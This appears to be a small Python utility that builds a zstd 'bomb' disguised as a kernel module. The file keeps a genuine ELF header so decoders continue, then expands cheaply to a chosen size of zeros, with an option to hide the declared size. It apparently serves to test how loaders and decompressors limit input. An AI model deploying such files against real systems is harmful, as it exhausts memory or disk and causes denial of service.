#!/usr/bin/env python3
"""Write a .ko.zst "bomb" (no dependencies): a zstd frame whose content is the first 64 bytes
of a module (an ELF header, so a reader keeps decoding) followed by zeros, as RLE blocks of
128 KiB (4 bytes each), a 128 KiB window.

  zstd-bomb.py MODULE.ko OUT.ko.zst MIB [nosize]

MIB: the decompressed size in MiB (64 bytes less of zeros); the frame header declares it
unless 'nosize' (then only decoding finds out).
"""
import struct
import sys


def main():
    src, out, mib = sys.argv[1], sys.argv[2], int(sys.argv[3])
    declare = not (len(sys.argv) > 4 and sys.argv[4] == "nosize")
    head = open(src, "rb").read(64)
    block = 128 * 1024
    total = mib * 1024 * 1024
    f = bytearray(struct.pack("<I", 0xFD2FB528))
    if declare:
        f.append(0xC0)                  # FCS field 8 bytes, not single segment, no checksum
        f.append(7 << 3)                # Window_Descriptor: 2^(10+7) = 128 KiB
        f += struct.pack("<Q", total)
    else:
        f.append(0x00)                  # no FCS, not single segment
        f.append(7 << 3)
    f += struct.pack("<I", (len(head) << 3) | (0 << 1) | 0)[:3]   # raw block
    f += head
    rest = total - len(head)
    while rest:
        n = min(block, rest)
        rest -= n
        last = 1 if rest == 0 else 0
        f += struct.pack("<I", (n << 3) | (1 << 1) | last)[:3] + b"\0"   # RLE block
    open(out, "wb").write(f)


if __name__ == "__main__":
    main()
